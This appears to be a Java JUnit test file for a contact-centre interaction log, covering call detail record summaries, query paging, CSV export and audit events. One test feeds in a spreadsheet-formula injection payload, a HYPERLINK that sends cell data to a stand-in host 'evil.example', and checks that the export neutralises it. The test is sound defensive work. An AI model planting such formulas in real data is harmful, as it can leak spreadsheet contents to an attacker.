package org.openucc.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringWriter;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.CompletionException;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.openucc.interaction.Channel;
import org.openucc.log.InteractionDetail;
import org.openucc.log.InteractionLog;
import org.openucc.log.InteractionOutcome;
import org.openucc.log.InteractionSummary;
import org.openucc.log.LogEvent;
import org.openucc.log.LogEventType;
import org.openucc.log.LogPage;
import org.openucc.log.LogQuery;
import org.openucc.log.NewLogEvent;
import org.openucc.log.SummaryQuery;
import org.openucc.routing.ManualClock;

class InteractionLogTest {
    @TempDir
    Path dir;
    ManualClock clock = StoreFixture.clock();
    StoreServices store;
    InteractionLog log;

    @BeforeEach
    void open() {
        store = StoreFixture.start(dir, clock);
        log = store.interactionLog();
    }

    @AfterEach
    void close() {
        store.close();
    }

    private Instant at(int seconds) {
        return StoreFixture.T0.plusSeconds(seconds);
    }

    /** A call: arrives, waits 30 s, talks 100 s with 20 s hold, 15 s wrap-up, disposition, recording. */
    private List<NewLogEvent> answeredCall(String id, String customerId, int start) {
        return List.of(
                NewLogEvent.interactionCreated(at(start), id, Channel.VOICE, "INBOUND", null, customerId,
                        Map.of("ivr.digits", "1")),
                NewLogEvent.ivr(at(start + 1), LogEventType.IVR_ENTERED, id, "main", "welcome"),
                new NewLogEvent(at(start + 10), LogEventType.QUEUED, id, null, "support", null, null, Map.of("position", 1)),
                new NewLogEvent(at(start + 38), LogEventType.OFFERED, id, "agent-1", "support", null, null, null),
                new NewLogEvent(at(start + 40), LogEventType.CONNECTED, id, "agent-1", "support", null, null, null),
                NewLogEvent.held(at(start + 60), id, "agent-1"),
                NewLogEvent.resumed(at(start + 80), id, "agent-1"),
                NewLogEvent.ended(at(start + 140), id, "agent-1", "REMOTE_HANGUP", null),
                new NewLogEvent(at(start + 140), LogEventType.WRAP_UP_STARTED, id, "agent-1", null, null, null, null),
                new NewLogEvent(at(start + 155), LogEventType.WRAP_UP_ENDED, id, "agent-1", null, null, null, null),
                NewLogEvent.disposition(at(start + 155), id, "agent-1", "resolved", "Explained the invoice"),
                NewLogEvent.recordingAvailable(at(start + 156), id, "recordings/" + id + ".wav", 100_000));
    }

    @Test
    void appendedEventsGetMonotonicIdsAndComeBackInOrder() {
        List<LogEvent> stored = log.appendAll(answeredCall("call-1", "cus_1", 0)).join();
        assertThat(stored).extracting(LogEvent::id).isSorted().doesNotHaveDuplicates();
        LogEvent next = log.append(NewLogEvent.failed(null, "call-2", "trunk down")).join();
        assertThat(next.id()).isGreaterThan(stored.get(stored.size() - 1).id());
        assertThat(next.at()).as("no time given: the log's clock").isEqualTo(clock.instant());
        List<LogEvent> timeline = log.timeline("call-1");
        assertThat(timeline).extracting(LogEvent::type).startsWith(LogEventType.INTERACTION_CREATED, LogEventType.IVR_ENTERED,
                LogEventType.QUEUED).endsWith(LogEventType.DISPOSITION, LogEventType.RECORDING_AVAILABLE);
        assertThat(timeline.get(0).details()).containsEntry("channel", "VOICE").containsEntry("attr.ivr.digits", "1");
        assertThat(timeline.get(2).detailLong("position", -1)).isEqualTo(1);
        assertThat(timeline.get(10).details()).containsEntry("notes", "Explained the invoice");
    }

    @Test
    void theCdrSummarizesWaitTalkHoldWrapUpAndOutcome() {
        log.appendAll(answeredCall("call-1", "cus_1", 0)).join();
        InteractionSummary s = log.summary("call-1").orElseThrow();
        assertThat(s.channel()).isEqualTo("VOICE");
        assertThat(s.direction()).isEqualTo("INBOUND");
        assertThat(s.customerId()).isEqualTo("cus_1");
        assertThat(s.queueId()).isEqualTo("support");
        assertThat(s.agentId()).isEqualTo("agent-1");
        assertThat(s.arrivedAt()).isEqualTo(at(0));
        assertThat(s.answeredAt()).isEqualTo(at(40));
        assertThat(s.endedAt()).isEqualTo(at(140));
        assertThat(s.waitMillis()).isEqualTo(30_000);
        assertThat(s.holdMillis()).isEqualTo(20_000);
        assertThat(s.talkMillis()).isEqualTo(80_000);
        assertThat(s.wrapUpMillis()).isEqualTo(15_000);
        assertThat(s.handleMillis()).isEqualTo(115_000);
        assertThat(s.offers()).isEqualTo(1);
        assertThat(s.outcome()).isEqualTo(InteractionOutcome.ANSWERED);
        assertThat(s.endCause()).isEqualTo("REMOTE_HANGUP");
        assertThat(s.disposition()).isEqualTo("resolved");
        assertThat(s.recordingPath()).isEqualTo("recordings/call-1.wav");
        InteractionDetail detail = log.interaction("call-1").orElseThrow();
        assertThat(detail.timeline()).hasSize(12);
    }

    @Test
    void theCdrIsTheSameWhetherEventsCameInOneBatchOrOneByOne() {
        log.appendAll(answeredCall("batch", "cus_1", 0)).join();
        List<CompletableFuture<LogEvent>> singles = new ArrayList<>();
        for (NewLogEvent e : answeredCall("single", "cus_1", 0)) {
            singles.add(log.append(e));
        }
        singles.forEach(CompletableFuture::join);
        InteractionSummary a = log.summary("batch").orElseThrow();
        InteractionSummary b = log.summary("single").orElseThrow();
        assertThat(b).usingRecursiveComparison().ignoringFields("interactionId", "lastEventId", "recordingPath").isEqualTo(a);
    }

    @Test
    void anAbandonedCallCountsItsWait() {
        log.appendAll(List.of(
                NewLogEvent.interactionCreated(at(0), "ab-1", Channel.VOICE, "INBOUND", null, null, null),
                new NewLogEvent(at(5), LogEventType.QUEUED, "ab-1", null, "sales", null, null, null),
                new NewLogEvent(at(65), LogEventType.ABANDONED, "ab-1", null, "sales", null, null,
                        Map.of("reason", "caller hung up")))).join();
        InteractionSummary s = log.summary("ab-1").orElseThrow();
        assertThat(s.outcome()).isEqualTo(InteractionOutcome.ABANDONED);
        assertThat(s.waitMillis()).isEqualTo(60_000);
        assertThat(s.endCause()).isEqualTo("caller hung up");
        assertThat(s.answeredAt()).isNull();
    }

    @Test
    void queriesFilterByAgentQueueCustomerTypeAndTimeWithKeysetPaging() {
        for (int i = 0; i < 7; i++) {
            log.appendAll(answeredCall("call-" + i, i % 2 == 0 ? "cus_even" : "cus_odd", i * 1000)).join();
        }
        log.append(new NewLogEvent(at(1), LogEventType.AGENT_LOGGED_IN, null, "agent-1", null, null, null, null)).join();

        List<LogEvent> all = new ArrayList<>();
        LogQuery q = LogQuery.forAgent("agent-1").limit(10);
        LogPage page;
        int pages = 0;
        do {
            page = log.events(q);
            all.addAll(page.events());
            q = q.after(page.nextCursor());
            pages++;
        } while (page.nextCursor() != null);
        assertThat(all).extracting(LogEvent::id).isSorted().doesNotHaveDuplicates();
        assertThat(all).hasSize(7 * 8 + 1);
        assertThat(pages).isEqualTo(6);

        assertThat(log.events(LogQuery.forCustomer("cus_even").limit(1000)).events())
                .as("customer events come through the CDR, even those that do not name the customer")
                .hasSize(4 * 12).allMatch(e -> List.of("call-0", "call-2", "call-4", "call-6").contains(e.interactionId()));
        assertThat(log.events(LogQuery.forQueue("support").types(EnumSet.of(LogEventType.CONNECTED))).events()).hasSize(7);
        assertThat(log.events(LogQuery.all().between(at(2000), at(3000)).types(EnumSet.of(LogEventType.INTERACTION_CREATED)))
                .events()).extracting(LogEvent::interactionId).containsExactly("call-2");
        LogPage newest = log.events(LogQuery.forInteraction("call-6").newestFirst().limit(2));
        assertThat(newest.events()).extracting(LogEvent::type)
                .containsExactly(LogEventType.RECORDING_AVAILABLE, LogEventType.DISPOSITION);
        assertThat(log.events(LogQuery.forInteraction("call-6").newestFirst().limit(2).after(newest.nextCursor())).events())
                .extracting(LogEvent::type).containsExactly(LogEventType.WRAP_UP_ENDED, LogEventType.WRAP_UP_STARTED);

        assertThat(log.recentInteractions("cus_even", 3)).extracting(InteractionSummary::interactionId)
                .containsExactly("call-6", "call-4", "call-2");
        assertThat(log.interactions(SummaryQuery.forAgent("agent-1", 5).page(5, 5)).items()).hasSize(2);
        assertThat(log.interactions(SummaryQuery.between(at(1000), at(3000), 10)).items())
                .extracting(InteractionSummary::interactionId).containsExactly("call-2", "call-1");
    }

    @Test
    void cdrsOfATimeRangeExportAsCsv() throws Exception {
        log.appendAll(answeredCall("call-a", "cus_1", 0)).join();
        log.appendAll(answeredCall("call-b,\"quoted\"", "cus_2", 500)).join();
        log.appendAll(answeredCall("call-c", "cus_3", 5000)).join();
        StringWriter out = new StringWriter();
        long rows = log.exportCdrCsv(at(0), at(1000), out);
        assertThat(rows).isEqualTo(2);
        List<CSVRecord> records = CSVParser.parse(out.toString(), CSVFormat.RFC4180.builder().setHeader()
                .setSkipHeaderRecord(true).get()).getRecords();
        assertThat(records).extracting(r -> r.get("interaction_id")).containsExactly("call-a", "call-b,\"quoted\"");
        assertThat(records.get(0).get("wait_ms")).isEqualTo("30000");
        assertThat(records.get(0).get("talk_ms")).isEqualTo("80000");
        assertThat(records.get(0).get("answered_at")).isEqualTo("2025-03-03T09:00:40Z");
        assertThat(records.get(0).get("outcome")).isEqualTo("ANSWERED");
        assertThat(records.get(0).get("disposition")).isEqualTo("resolved");
        assertThat(records.get(0).get("recording")).isEqualTo("recordings/call-a.wav");
    }

    @Test
    void cdrCsvCellsThatASpreadsheetWouldRunAsFormulasAreNeutralised() throws Exception {
        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"invoice\")";
        List<NewLogEvent> call = new ArrayList<>(answeredCall(formula, "+33 1 23", 0));
        call.set(call.size() - 2, NewLogEvent.disposition(at(155), formula, "agent-1", "@SUM(1+1)", "notes"));
        log.appendAll(call).join();
        log.appendAll(answeredCall("\tcall-tab", "-2+3", 10)).join();
        log.appendAll(answeredCall("\rcall-cr", "cus_plain", 20)).join();
        StringWriter out = new StringWriter();
        assertThat(log.exportCdrCsv(at(0), at(1000), out)).isEqualTo(3);

        List<CSVRecord> records = CSVParser.parse(out.toString(), CSVFormat.RFC4180.builder().setHeader()
                .setSkipHeaderRecord(true).get()).getRecords();
        assertThat(records).extracting(r -> r.get("interaction_id"))
                .containsExactly("'" + formula, "'\tcall-tab", "'\rcall-cr");
        assertThat(records).extracting(r -> r.get("customer_id")).containsExactly("'+33 1 23", "'-2+3", "cus_plain");
        assertThat(records.get(0).get("disposition")).isEqualTo("'@SUM(1+1)");
        assertThat(records.get(1).get("disposition")).isEqualTo("resolved");
        // Numbers stay numbers, and no cell starts with a formula character any more.
        assertThat(records.get(0).get("wait_ms")).isEqualTo("30000");
        for (CSVRecord r : records) {
            for (String cell : r) {
                assertThat(cell).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                        .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
            }
        }
    }

    @Test
    void aBadEventFailsAloneAndTheOthersInItsBatchAreStored() {
        List<CompletableFuture<LogEvent>> good = new ArrayList<>();
        for (int i = 0; i < 20; i++) {
            good.add(log.append(NewLogEvent.failed(at(i), "ok-" + i, "x")));
        }
        CompletableFuture<LogEvent> bad = log.append(NewLogEvent.failed(at(30), "x".repeat(300), "id too long"));
        for (int i = 20; i < 40; i++) {
            good.add(log.append(NewLogEvent.failed(at(i), "ok-" + i, "x")));
        }
        assertThatThrownBy(bad::join).isInstanceOf(CompletionException.class)
                .hasMessageContaining("appending 1 interaction-log events failed");
        good.forEach(CompletableFuture::join);
        assertThat(log.events(LogQuery.all().types(EnumSet.of(LogEventType.FAILED)).limit(100)).events()).hasSize(40);
        assertThat(store.interactionLogStats().failedEvents()).isEqualTo(1);
    }

    @Test
    void flushCompletesAfterEverythingAppendedBefore() {
        for (int i = 0; i < 100; i++) {
            log.append(NewLogEvent.failed(at(i), "f-" + i, "x"));
        }
        log.flush().join();
        assertThat(log.events(LogQuery.all().limit(1000)).events()).hasSize(100);
        assertThat(store.interactionLogStats().storedEvents()).isEqualTo(100);
    }

    @Test
    void appendsAfterCloseFailInsteadOfHanging() {
        store.close();
        assertThatThrownBy(() -> log.append(NewLogEvent.failed(null, "late", "x")).join())
                .hasCauseInstanceOf(IllegalStateException.class).hasMessageContaining("closed");
        store = StoreFixture.start(dir, clock);
    }

    @Test
    void adminChangesAreAuditedWithActor() {
        log.append(NewLogEvent.adminChange(null, "admin", "queue", "support", "update", "serviceLevel 80/20 -> 90/15")).join();
        LogEvent e = log.events(LogQuery.all().types(EnumSet.of(LogEventType.ADMIN_CHANGE))).events().get(0);
        assertThat(e.actor()).isEqualTo("admin");
        assertThat(e.details()).containsEntry("entity", "queue").containsEntry("change", "serviceLevel 80/20 -> 90/15");
        clock.advance(Duration.ofSeconds(1));
    }
}
